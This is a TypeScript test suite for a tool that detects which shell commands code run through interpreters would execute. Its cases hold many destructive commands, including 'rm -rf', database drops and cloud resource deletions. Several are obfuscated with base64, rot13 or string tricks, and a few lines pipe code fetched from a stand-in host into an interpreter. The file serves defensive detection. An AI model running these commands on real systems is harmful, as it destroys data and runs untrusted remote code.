import { describe, expect, test } from 'vitest';
import { readLine, shown } from '../pretend.ts';

/** What code that a line holds runs: the commands that were reached through the interpreter. */
const run = (line: string, world?: Parameters<typeof readLine>[1]) => [
  ...new Set(
    readLine(line, world)
      .commands.filter(({ via, words }) => via.length > 0 && words.length > 0)
      .map(shown),
  ),
];
const doubts = (line: string) => readLine(line).doubts.map(({ why }) => why);

/** A program with its code as a here-document that the shell does not expand. */
const given = (program: string, code: string) => `${program} <<'CODE'\n${code}\nCODE`;

type Case = readonly [code: string, ...commands: string[]];

const python: readonly Case[] = [
  [`import os; os.system("rm -rf /srv")`, 'rm -rf /srv'],
  [`import os as o; o.popen("rm -rf /srv").read()`, 'rm -rf /srv'],
  [`from os import system as s\ns("rm -rf /srv")`, 'rm -rf /srv'],
  [`from os import *\nsystem("rm -rf /srv")`, 'rm -rf /srv'],
  [`import os\nx = "rm"\nos.system(x + " -rf /")`, 'rm -rf /'],
  [`import os\nx, y = "rm", "/srv"\nos.system(f"{x} -rf {y}/a")`, 'rm -rf /srv/a'],
  [`import os\nos.system("%s -rf %s" % ("rm", "/srv"))`, 'rm -rf /srv'],
  [`import os\nos.system("{} -rf {p}".format("rm", p="/srv"))`, 'rm -rf /srv'],
  [`import os\nos.system(" ".join(["rm", "-rf", "/srv"]))`, 'rm -rf /srv'],
  [`import os\nos.system("vrs/ fr- mr"[::-1])`, 'rm -rf /srv'.replace('/srv', '/srv')],
  [`import os\nos.system(chr(114) + chr(109) + " -rf /srv")`, 'rm -rf /srv'],
  [`import os, base64\nos.system(base64.b64decode("cm0gLXJmIC9zcnY=").decode())`, 'rm -rf /srv'],
  [`import os, codecs\nos.system(codecs.decode("ez -es /fei", "rot13"))`, 'rm -rf /srv'],
  [
    `import subprocess as s\ns.run(["terraform", "destroy", "-auto-approve"])`,
    'terraform destroy -auto-approve',
  ],
  [`import subprocess\nsubprocess.run("rm -rf /srv", shell=True)`, 'rm -rf /srv'],
  [`import subprocess\nsubprocess.check_output(args=["rm", "-rf", "/srv"])`, 'rm -rf /srv'],
  [`import subprocess\ncmd = ["rm"]\ncmd += ["-rf", "/srv"]\nsubprocess.Popen([*cmd])`, 'rm -rf /srv'],
  [`import subprocess, shlex\nsubprocess.call(shlex.split("rm -rf '/srv/a b'"))`, 'rm -rf /srv/a b'],
  [`import subprocess\nsubprocess.run(["bash"], input="rm -rf /srv", text=True)`, 'bash', 'rm -rf /srv'],
  [`import subprocess\np = subprocess.Popen(["bash"])\np.communicate(b"rm -rf /srv")`, 'bash', 'rm -rf /srv'],
  [`import os\nos.execvp("rm", ["rm", "-rf", "/srv"])`, 'rm -rf /srv'],
  [`import os\nos.execl("/bin/rm", "rm", "-rf", "/srv")`, '/bin/rm -rf /srv'],
  [`import pty\npty.spawn(["rm", "-rf", "/srv"])`, 'rm -rf /srv'],
  [`from shutil import rmtree as r\nr("/srv")`, 'rm -rf /srv'],
  [`__import__("shutil").rmtree("/srv")`, 'rm -rf /srv'],
  [`import importlib\nimportlib.import_module("shutil").rmtree("/srv")`, 'rm -rf /srv'],
  [`import os\ngetattr(os, "sys" + "tem")("rm -rf /srv")`, 'rm -rf /srv'],
  [`import sys\nsys.modules["os"].system("rm -rf /srv")`, 'rm -rf /srv'],
  [`import os\nfor p in ["/srv/a", "/srv/b"]:\n    os.remove(p)`, 'rm /srv/a', 'rm /srv/b'],
  [`import pathlib\n[p.unlink() for p in pathlib.Path(".").rglob("*")]`, 'rm -rf .'],
  [`from pathlib import Path\nfor p in Path("src").glob("*.ts"):\n    p.unlink()`, 'rm src/*.ts'],
  [`from pathlib import Path\n(Path("/srv") / "app").unlink()`, 'rm /srv/app'],
  [
    `import os\nfor d, _, files in os.walk("/srv"):\n    for f in files:\n        os.remove(os.path.join(d, f))`,
    'rm -rf /srv',
  ],
  [`import shutil, os\nshutil.rmtree(os.path.expanduser("~/work"))`, 'rm -rf /home/dev/work'],
  [`import shutil\nshutil.move("a", "b")`, 'mv a b'],
  [`open("a.txt", "w").write("x")`, 'tee a.txt', 'tee -a a.txt'],
  [`from pathlib import Path\nPath("a.txt").write_text("x")`, 'tee a.txt'],
  [`import threading, os\nthreading.Thread(target=os.system, args=("rm -rf /srv",)).start()`, 'rm -rf /srv'],
  [`import os\nlist(map(os.system, ["rm -rf /srv"]))`, 'rm -rf /srv'],
  [`import os\n(lambda c: os.system(c))("rm -rf /srv")`, 'rm -rf /srv'],
  [`import os\ndef wipe(path, force=True):\n    os.system("rm -rf " + path)\nwipe("/srv")`, 'rm -rf /srv'],
  [`import os\ndef never_called():\n    os.system("rm -rf /srv")`, 'rm -rf /srv'],
  [`exec("import os\\nos.system('rm -rf /srv')")`, 'rm -rf /srv'],
  [`import os\nx = "ls"\nif x:\n    x = "rm -rf /srv"\nos.system(x)`, 'ls', 'rm -rf /srv'],
  [`import os\ntry:\n    os.chdir("/srv")\nfinally:\n    os.system("rm -rf *")`, 'rm -rf *'],
  [
    `import asyncio\nasync def main():\n    await asyncio.create_subprocess_exec("rm", "-rf", "/srv")\nasyncio.run(main())`,
    'rm -rf /srv',
  ],
  [
    `import boto3\nboto3.client("rds").delete_db_instance(DBInstanceIdentifier="prod", SkipFinalSnapshot=True)`,
    'aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot',
  ],
  [
    `import boto3\ns = boto3.Session(profile_name="prod")\nec2 = s.client("ec2")\nec2.terminate_instances(InstanceIds=["i-1", "i-2"])`,
    'aws ec2 terminate-instances --instance-ids i-1 i-2',
  ],
  [
    `import boto3\nboto3.resource("s3").Bucket("prod").objects.all().delete()`,
    'aws s3 rm s3://prod --recursive',
  ],
  [
    `import boto3\nboto3.resource("dynamodb").Table("orders").delete()`,
    'aws dynamodb delete-table --table-name orders',
  ],
  [
    `import boto3\nfor t in boto3.client("dynamodb").list_tables()["TableNames"]:\n    boto3.client("dynamodb").delete_table(TableName=t)`,
    'aws dynamodb delete-table --table-name …',
  ],
  [
    `from google.cloud import storage\nstorage.Client().bucket("x").delete()`,
    'gcloud storage buckets delete gs://x',
  ],
  [
    `from google.cloud import storage\nfor b in storage.Client().list_blobs("x"):\n    b.delete()`,
    'gcloud storage rm -r gs://x',
  ],
  [
    `from kubernetes import client, config\nconfig.load_kube_config()\nv1 = client.CoreV1Api()\nv1.delete_namespace("prod")\nv1.delete_namespaced_pod("a", "prod")`,
    'kubectl delete namespace prod',
    'kubectl delete pod a -n prod',
  ],
  [
    `from azure.mgmt.resource import ResourceManagementClient as R\nR(cred, sub).resource_groups.begin_delete("prod")`,
    'az group delete --name prod --yes',
  ],
  [
    `import psycopg2\nc = psycopg2.connect("dbname=prod").cursor()\nc.execute("DROP TABLE users")`,
    'psql -c DROP TABLE users',
  ],
  [
    `import sqlite3\nsqlite3.connect("app.db").execute("DELETE FROM users")`,
    'sqlite3 app.db DELETE FROM users',
  ],
  [
    `import pymongo\npymongo.MongoClient().drop_database("prod")`,
    'mongosh --eval db.getSiblingDB("prod").dropDatabase()',
  ],
  [`import redis\nredis.Redis(host="prod").flushall()`, 'redis-cli flushall'],
  [
    `import requests\nrequests.delete("https://api.example.com/v1/projects/1")`,
    'curl -X DELETE https://api.example.com/v1/projects/1',
  ],
  [`import paramiko\nc = paramiko.SSHClient()\nc.exec_command("rm -rf /srv")`, 'rm -rf /srv'],
];

const javascript: readonly Case[] = [
  [`require('child_process').execSync('rm -rf /srv')`, 'rm -rf /srv'],
  [`require("node:child_process").exec(\`rm -rf \${'/srv'}\`)`, 'rm -rf /srv'],
  [`const { execSync: e } = require('child_process'); const d = '/srv'; e('rm -rf ' + d)`, 'rm -rf /srv'],
  [`import { spawnSync } from 'child_process'; spawnSync('rm', ['-rf', '/srv'])`, 'rm -rf /srv'],
  [
    `import * as cp from 'node:child_process'; cp.spawn('rm', ['-rf', '/srv'], { shell: true })`,
    'rm -rf /srv',
  ],
  [`import('child_process').then(({ execSync }) => execSync('rm -rf /srv'))`, 'rm -rf /srv'],
  [`const cp = await import('child_process'); cp.execFileSync('rm', ['-rf', '/srv'])`, 'rm -rf /srv'],
  [
    `const run = require('util').promisify(require('child_process').exec); await run('rm -rf /srv')`,
    'rm -rf /srv',
  ],
  [`require('child_' + 'process')['exec' + 'Sync'](['rm', '-rf', '/srv'].join(' '))`, 'rm -rf /srv'],
  [`eval("require('child_process').execSync('rm -rf /srv')")`, 'rm -rf /srv'],
  [`eval(Buffer.from('cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy9zcnYnKQ==', 'base64').toString())`, 'rm /srv'],
  [`setTimeout(() => require('fs').rmSync('/srv', { recursive: true, force: true }), 10)`, 'rm -rf /srv'],
  [`require('fs').rmSync('/srv',{recursive:true})`, 'rm -rf /srv'],
  [`import { rm } from 'fs/promises'; await rm('/srv', { recursive: true })`, 'rm -rf /srv'],
  [
    `const fs = require('fs'); fs.promises.rm('/srv', {recursive: true}); fs.unlinkSync('/etc/hosts')`,
    'rm -rf /srv',
    'rm /etc/hosts',
  ],
  [
    `const fs = require('fs'), path = require('path'); fs.rmSync(path.join('/srv', 'app'), {recursive: true})`,
    'rm -rf /srv/app',
  ],
  [
    `for (const d of ['/srv/a', '/srv/b']) require('fs').rmSync(d, { recursive: true })`,
    'rm -rf /srv/a',
    'rm -rf /srv/b',
  ],
  [
    `['/srv/a', '/srv/b'].forEach((d) => require('fs').rmSync(d, { recursive: true }))`,
    'rm -rf /srv/a',
    'rm -rf /srv/b',
  ],
  [`import { rimraf } from 'rimraf'; rimraf('/srv')`, 'rm -rf /srv'],
  [`require('fs-extra').emptyDirSync('/srv')`, 'rm -rf /srv'],
  [`require('fs').writeFileSync('a.json', '{}')`, 'tee a.json'],
  [`import { $ } from 'zx'; await $\`rm -rf /srv\``, 'rm -rf /srv'],
  [`import { execa } from 'execa'; await execa('rm', ['-rf', '/srv'])`, 'rm -rf /srv'],
  [`Bun.spawnSync(['rm', '-rf', '/srv'])`, 'rm -rf /srv'],
  [`await Bun.$\`rm -rf /srv\``, 'rm -rf /srv'],
  [`new Deno.Command('rm', { args: ['-rf', '/srv'] }).outputSync()`, 'rm -rf /srv'],
  [`Deno.removeSync('/srv', { recursive: true })`, 'rm -rf /srv'],
  [
    `const { RDSClient, DeleteDBInstanceCommand } = require('@aws-sdk/client-rds'); new RDSClient({}).send(new DeleteDBInstanceCommand({ DBInstanceIdentifier: 'prod', SkipFinalSnapshot: true }))`,
    'aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot',
  ],
  [
    `import { S3 } from '@aws-sdk/client-s3'; new S3({}).deleteBucket({ Bucket: 'prod' })`,
    'aws s3api delete-bucket --bucket prod',
  ],
  [
    `const AWS = require('aws-sdk'); new AWS.DynamoDB().deleteTable({ TableName: 'orders' }).promise()`,
    'aws dynamodb delete-table --table-name orders',
  ],
  [
    `const { Storage } = require('@google-cloud/storage'); new Storage().bucket('x').delete()`,
    'gcloud storage buckets delete gs://x',
  ],
  [
    `const k8s = require('@kubernetes/client-node'); const kc = new k8s.KubeConfig(); kc.makeApiClient(k8s.CoreV1Api).deleteNamespace({ name: 'prod' })`,
    'kubectl delete namespace prod',
  ],
  [
    `const { Client } = require('pg'); const c = new Client(); c.query('DROP TABLE users')`,
    'psql -c DROP TABLE users',
  ],
  [`await prisma.$executeRawUnsafe('TRUNCATE orders')`, 'psql -c TRUNCATE orders'],
  [`fetch('https://api.example.com/x', { method: 'DELETE' })`, 'curl -X DELETE https://api.example.com/x'],
];

const ruby: readonly Case[] = [
  [`system("rm -rf /srv")`, 'rm -rf /srv'],
  [`system "rm", "-rf", "/srv"`, 'rm -rf /srv'],
  ['`rm -rf /srv`', 'rm -rf /srv'],
  [`%x(rm -rf /srv)`, 'rm -rf /srv'],
  [`exec %w[rm -rf /srv].join(' ')`, 'rm -rf /srv'],
  [`d = "/srv"\nsystem("rm -rf #{d}/app")`, 'rm -rf /srv/app'],
  [`system('rm -rf /srv') if true`, 'rm -rf /srv'],
  [`Kernel.system('rm -rf /srv')`, 'rm -rf /srv'],
  [`require 'open3'\nOpen3.capture2("rm -rf /srv")`, 'rm -rf /srv'],
  [`IO.popen(["rm", "-rf", "/srv"])`, 'rm -rf /srv'],
  [`require 'fileutils'\nFileUtils.rm_rf '/srv'`, 'rm -rf /srv'],
  [`FileUtils.rm_rf(Dir.glob("*"))`, 'rm -rf *'],
  [`Dir.glob('/srv/*').each { |f| File.delete(f) }`, 'rm /srv/*'],
  [`%w[/srv/a /srv/b].each do |d|\n  FileUtils.rm_rf(d)\nend`, 'rm -rf /srv/a', 'rm -rf /srv/b'],
  [`def wipe(path)\n  system("rm -rf #{path}")\nend\nwipe("/srv")`, 'rm -rf /srv'],
  [`send(:system, "rm -rf /srv")`, 'rm -rf /srv'],
  [`eval("system('rm -rf /srv')")`, 'rm -rf /srv'],
  [`cmd = <<~SH\n  rm -rf /srv\nSH\nsystem(cmd)`, 'rm -rf /srv'],
  [`File.write("a.txt", "x")`, 'tee a.txt'],
  [`open("|rm -rf /srv")`, 'rm -rf /srv'],
  [`ActiveRecord::Base.connection.execute("DROP TABLE users")`, 'psql -c DROP TABLE users'],
  [`User.delete_all`, 'psql -c DELETE FROM user'],
];

const perl: readonly Case[] = [
  [`system("rm -rf /srv");`, 'rm -rf /srv'],
  [`system 'rm', '-rf', '/srv';`, 'rm -rf /srv'],
  ['my $out = `rm -rf /srv`;', 'rm -rf /srv'],
  ['print qx{rm -rf /srv};', 'rm -rf /srv'],
  ['my $d = "/srv"; exec "rm -rf $d/app" or die;', 'rm -rf /srv/app'],
  ['my @c = qw(rm -rf /srv); system(@c);', 'rm -rf /srv'],
  ['my %h = (dir => "/srv"); system("rm -rf $h{dir}");', 'rm -rf /srv'],
  ['unlink glob "*";', 'rm *'],
  ['unlink <*.ts>;', 'rm *.ts'],
  ['unlink $_ for glob("src/*");', 'rm src/*'],
  ['use File::Path; rmtree("/srv");', 'rm -rf /srv'],
  ['use File::Path qw(remove_tree); remove_tree "/srv", {keep_root => 1};', 'rm -rf /srv'],
  ['open(my $f, "|rm -rf /srv");', 'rm -rf /srv'],
  ['open(my $f, "-|", "rm", "-rf", "/srv");', 'rm -rf /srv'],
  ['sub wipe { my ($d) = @_; system("rm -rf $d"); } wipe("/srv");', 'rm -rf /srv'],
  ['eval "system(\'rm -rf /srv\')";', 'rm -rf /srv'],
  ['my $x = "rm"; $x .= " -rf /srv"; system($x) if 1;', 'rm -rf /srv'],
  ['s/x/system("rm -rf \\/srv")/e;', 'rm -rf /srv'],
];

const php: readonly Case[] = [
  [`<?php system("rm -rf /srv");`, 'rm -rf /srv'],
  [`<?php $d = '/srv'; exec("rm -rf $d");`, 'rm -rf /srv'],
  [`<?php echo shell_exec('rm' . ' -rf ' . '/srv');`, 'rm -rf /srv'],
  ['<?php $x = `rm -rf /srv`;', 'rm -rf /srv'],
  [`<?php passthru(implode(' ', ['rm', '-rf', '/srv']));`, 'rm -rf /srv'],
  [`<?php proc_open(['rm', '-rf', '/srv'], [], $p);`, 'rm -rf /srv'],
  [`<?php array_map('unlink', glob('src/*'));`, 'rm src/*'],
  [`<?php foreach (glob('src/*') as $f) { unlink($f); }`, 'rm src/*'],
  [`<?php function wipe($d) { system("rm -rf {$d}"); } wipe('/srv');`, 'rm -rf /srv'],
  [`<?php $f = 'system'; eval(base64_decode('c3lzdGVtKCJybSAtcmYgL3NydiIpOw=='));`, 'rm -rf /srv'],
  [`<?php $pdo->exec('DROP TABLE users');`, 'psql -c DROP TABLE users'],
  [`<?php if ($x) { system('rm -rf /srv'); } else { echo 'no'; } // rm -rf /`, 'rm -rf /srv'],
];

describe.each([
  ['python3', python],
  ['node', javascript],
  ['ruby', ruby],
  ['perl', perl],
  ['php', php],
])('%s', (program, cases) => {
  test.each(cases)('%s', (code, ...commands) => {
    const found = run(given(program, code)).map((line) => line.replace(/^sh -c /, ''));
    for (const command of commands) expect(found).toContain(command);
  });
});

describe('how a program is given its code', () => {
  test.each([
    [`python -vc 'import os; os.system("rm -rf /srv")'`],
    [`python3.11 -c'import os; os.system("rm -rf /srv")'`],
    [`python3 -u -W ignore -c 'import os; os.system("rm -rf /srv")'`],
    [`echo 'import os; os.system("rm -rf /srv")' | python3`],
    [`python3 - <<< 'import os; os.system("rm -rf /srv")'`],
    [`cat > x.py <<'E'\nimport os; os.system("rm -rf /srv")\nE\npython3 x.py`],
    [`cat > x.py <<'E'\nimport os; os.system("rm -rf /srv")\nE\npython3 -c 'exec(open("x.py").read())'`],
    [`python3 <(echo 'import os; os.system("rm -rf /srv")')`],
    [`python -c 'import os,sys; os.system(sys.argv[1])' 'rm -rf /srv'`],
    [`echo 'rm -rf /srv' | python3 -c 'import os,sys; os.system(sys.stdin.read())'`],
    [`X='rm -rf /srv' python3 -c 'import os; os.system(os.environ["X"])'`],
    [`sudo -u app env A=1 python3 -c 'import os; os.system("rm -rf /srv")'`],
    [`printf '#!/usr/bin/env python3\nimport os\nos.system("rm -rf /srv")\n' > x; chmod +x x; ./x`],
    [`node --eval="require('child_process').execSync('rm -rf /srv')"`],
    [`node -pe 'require("child_process").execSync("rm -rf /srv")'`],
    [`node --input-type=module -e 'import { execSync } from "child_process"; execSync("rm -rf /srv")'`],
    [`deno eval "new Deno.Command('rm',{args:['-rf','/srv']}).output()"`],
    [`deno eval --ext=ts "new Deno.Command('rm',{args:['-rf','/srv']}).output()"`],
    [`bun -e "Bun.spawn(['rm','-rf','/srv'])"`],
    [`ruby -we 'system("rm -rf /srv")'`],
    [`ruby -rjson -e 'x = 1' -e 'system("rm -rf /srv")'`],
    [`perl -MFile::Path=remove_tree -we 'remove_tree("/srv")'`],
    [`perl -0777 -i.bak -pe 'system("rm -rf /srv")' file`],
    [`echo 'rm -rf /srv' | perl -ne 'system($_)'`],
    [`php -r 'system("rm -rf /srv");'`],
    [`awk 'BEGIN{system("rm -rf /srv")}'`],
    [`gawk 'BEGIN { system("rm\\x20-rf\\x20/srv") }'`],
    [`awk 'BEGIN { system("rm\\040-rf\\040/srv") }'`],
    [`awk 'BEGIN { "rm -rf /srv" | getline x }'`],
    [`awk 'BEGIN { print "x" | "rm -rf /srv" }'`],
    [`awk 'BEGIN { c = "rm -rf "; system(c "/srv") }'`],
    [`awk -v d=/srv 'BEGIN { system("rm -rf " d) }'`],
    [`echo 'rm -rf /srv' | awk '{ system($0) }'`],
    [`echo 'x rm /srv' | awk '{ system($2 " -rf " $3) }'`],
    [`sed '1e rm -rf /srv' file`],
    [`sed -n -e 's/a/b/' -e '$!{N;e rm -rf /srv\n}' file`],
    [`sed 's/.*/rm -rf \\/srv/e' file`.replace('\\/srv', '\\/srv')],
    [`echo 'rm -rf /srv' | sed e`],
    [`vim -c ':!rm -rf /srv' -c q`],
    [`vim '+!rm -rf /srv' x.md`],
    [`ex -s x.md <<'E'\n%s/a/b/\n!rm -rf /srv\nwq\nE`],
    [`nvim --headless +'call system("rm -rf /srv")' +q`],
    [`nvim -c 'lua os.execute("rm -rf /srv")'`],
    [`gdb -batch -ex "shell rm -rf /srv"`],
    [`gdb -batch -ex 'python import os; os.system("rm -rf /srv")'`],
    [`osascript -e 'do shell script "rm -rf /srv"'`],
    [`osascript -e 'do shell script "rm -rf " & "/srv" with administrator privileges'`],
    [`osascript -l JavaScript -e 'Application.currentApplication().doShellScript("rm -rf /srv")'`],
    [`lua -e 'os.execute("rm -rf /srv")'`],
    [`lua5.4 -e 'local d = "/srv" io.popen("rm -rf " .. d)'`],
    [`Rscript -e 'system("rm -rf /srv")'`],
    [`Rscript -e 'system(paste0("rm -rf ", "/srv"))'`],
    [`R --slave -e 'unlink("/srv", recursive = TRUE)'`],
    [`julia -e 'run(\`rm -rf /srv\`)'`],
    [`elixir -e 'System.cmd("rm", ["-rf", "/srv"])'`],
    [`groovy -e '"rm -rf /srv".execute()'`],
    [`nu -c "rm -rf /srv"`],
    [`expect -c 'spawn rm -rf /srv; expect eof'`],
    [`tclsh <<'E'\nset d /srv\nif {1} { exec rm -rf $d }\nE`],
    [`tclsh <<'E'\nfile delete -force /srv\nE`],
    [`rails runner 'system("rm -rf /srv")'`],
    [`bundle exec rails runner 'FileUtils.rm_rf("/srv")'`],
    [`python manage.py shell -c 'import shutil; shutil.rmtree("/srv")'`],
    [`php artisan tinker --execute='system("rm -rf /srv");'`],
    [`rails console <<< 'system("rm -rf /srv")'`],
    [`echo 'import os; os.system("rm -rf /srv")' | python manage.py shell`],
    [`flask shell <<'E'\nimport os\nos.system("rm -rf /srv")\nE`],
    [`php artisan tinker <<< 'system("rm -rf /srv");'`],
    [`awk 'BEGIN { print "rm -rf /srv" | "sh" }'`],
    [`awk -v d=/srv 'BEGIN { print "rm -rf " d | "/bin/bash" }'`],
    [`vim -es -c '!rm -rf /srv' -c q`],
    [`zx <<< 'await $\`rm -rf /srv\`'`],
    [`go run x.go`],
    [
      `cat > y.go <<'E'\npackage main\nfunc main() {\n\texec.CommandContext(ctx, \`rm\`, "-rf", "/srv").Run()\n}\nE\ngo run ./y.go`,
    ],
    [`cat > y.go <<'E'\npackage main\nfunc main() {\n\t_ = os.RemoveAll("/srv")\n}\nE\ngo run ./y.go`],
  ])('%s', (line) => {
    const go =
      'package main\n\nimport "os/exec"\n\nfunc main() {\n\texec.Command("rm", "-rf", "/srv").Run() // gone\n}\n';
    const found = run(line, { files: { '/home/dev/project/x.go': go } }).map((each) =>
      each.replace(/^sh -c /, ''),
    );
    expect(found).toContain('rm -rf /srv');
  });

  test.each([
    [`node -e "new PrismaClient().user.deleteMany()"`, 'DELETE FROM user'],
    [`node -e "const prisma = new PrismaClient(); prisma.order.deleteMany({})"`, 'DELETE FROM order'],
    [`node -e "const K = require('knex')(c); K('users').del()"`, 'DELETE FROM all_rows'],
    [`php artisan tinker --execute='DB::table("orders")->delete();'`, 'DELETE FROM all_rows'],
    [`python manage.py dbshell <<< 'DROP TABLE x'`, 'psql'],
  ])('%s empties a table', (line, statement) => {
    expect(run(line).join('\n')).toContain(statement);
  });

  test.each([
    `node -e "new PrismaClient().user.deleteMany({ where: { id: 1 } })"`,
    `node -e "const K = require('knex')(c); K('users').where('id', 1).del()"`,
    `php artisan tinker --execute='DB::table("orders")->where("id", 1)->delete();'`,
    `python manage.py dbshell`,
  ])('%s does not', (line) => {
    expect(run(line).join('\n')).not.toMatch(/DELETE|psql/);
  });

  test('the input of a module is data', () => {
    expect(run(`python3 -m json.tool <<< 'import os; os.system("rm -rf /")'`)).not.toContain('rm -rf /');
  });

  test('a script on disk is read', () => {
    const files = {
      '/home/dev/project/x.py': 'import shutil\nshutil.rmtree("/srv")\n',
      '/home/dev/project/x.js': 'require("fs").rmSync("/srv", { recursive: true })',
    };
    expect(run('python3 x.py', { files })).toEqual(['rm -rf /srv']);
    expect(run('node ./x.js', { files })).toEqual(['rm -rf /srv']);
  });

  test('what a script that was there before does with its data is not asked about', () => {
    const files = {
      '/home/dev/project/x.py':
        'import os, sys, shutil\nos.system(sys.argv[1])\nshutil.rmtree(build_dir())\n',
    };
    const reading = readLine('python3 x.py', { files });
    expect(reading.doubts).toEqual([]);
    expect(reading.commands.map(shown)).toEqual(['python3 x.py']);
  });
});

describe('data stays data', () => {
  test.each([
    [`python3 -c "print('rm -rf /')"`],
    [`python3 -c "import re; re.search('DROP TABLE', x)"`],
    [`python3 -c "x = {'cmd': 'terraform destroy'}; print(x['cmd'])"`],
    [
      given(
        'python3',
        `"""Runs os.system('rm -rf /')."""\n# os.system('rm -rf /')\nx = "os.system('rm -rf /')"\nprint(x)`,
      ),
    ],
    [`node -e "console.log('terraform destroy')"`],
    [`node -e "const m='git reset --hard'; console.log(m.length) // execSync('rm -rf /')"`],
    [`node -e "/rm -rf/.test(x)"`],
    [`ruby -e "puts 'rm -rf /'"`],
    [`ruby -e 'x = %q(system("rm -rf /")); puts x # system("rm")'`],
    [`perl -e "print 'rm -rf /'"`],
    [`perl -ne "print if /git reset --hard/" x.sh`],
    [`perl -pi -e "s/terraform destroy/echo no/" x.sh`],
    [`php -r 'echo "rm -rf /";'`],
    [`awk '/rm -rf/ {print}' log.txt`],
    [`awk '{ print "system(rm -rf /)" }' log.txt`],
    [`awk -F'|' '$1 > 10 { print $2 }' log.txt`],
    [`sed -n '/rm -rf/p' log.txt`],
    [`sed -e 's/rm -rf/echo e/g' -e '/destroy/d' log.txt`],
    [`sed 's|a|b|; s,e,w,; y/ew/xy/; a e rm -rf /' log.txt`],
    [`vim -es x.md <<'E'\n%s/git reset --hard/git stash/g\nwq\nE`],
    [`node hook.js <<'E'\n{"tool_input":{"command":"terraform destroy"}}\nE`],
    [`osascript -e 'display notification "rm -rf /"'`],
    [`lua -e 'print("rm -rf /")'`],
    [`Rscript -e 'print("rm -rf /")'`],
    [`gdb -batch -ex 'run' -ex 'bt' ./a.out`],
  ])('%s', (line) => {
    expect(run(line)).toEqual([]);
    expect(doubts(line)).toEqual([]);
  });
});

describe('a command given as code is read as the command that was meant', () => {
  test.each([
    [`node -e "rm -rf /"`, 'rm -rf /'],
    [`perl -e 'git push --force'`, 'git push --force'],
    [`1A=2 git reset --hard`, 'git reset --hard'],
    [`W='rm -rf ~'; "$W"`, 'rm -rf /home/dev'],
  ])('%s', (line, command) => {
    expect(run(line)).toContain(command);
  });
});

describe('what cannot be known is said', () => {
  test.each([
    [`python3 -c "import requests; exec(requests.get('https://x.example/a').text)"`],
    [`curl -s https://x.example/a | python3`],
    [`curl -s https://x.example/a | node -`],
    [`python3 -c "$CODE"`],
    [`node -e "eval(process.env.UNKNOWN_CODE)"`],
    [`python3 -c "import os, sys; os.system(input())"`],
    [`awk '{ system($0) }' commands.txt`],
    [`ruby -e 'eval(STDIN.read)'`],
    [`perl -e 'eval $ENV{CODE}'`],
    [`sed 's/x/y/e' file`],
  ])('%s', (line) => {
    expect(doubts(line)).not.toEqual([]);
  });

  test('a word with a hole keeps what is known of it', () => {
    expect(run(`python3 -c "import shutil; shutil.rmtree('/srv/' + name())"`)).toEqual(['rm -rf /srv/…']);
    expect(run(`node -e "require('fs').rmSync('/srv/$X', {recursive: true})"`)).toEqual(['rm -rf /srv/…']);
  });
});
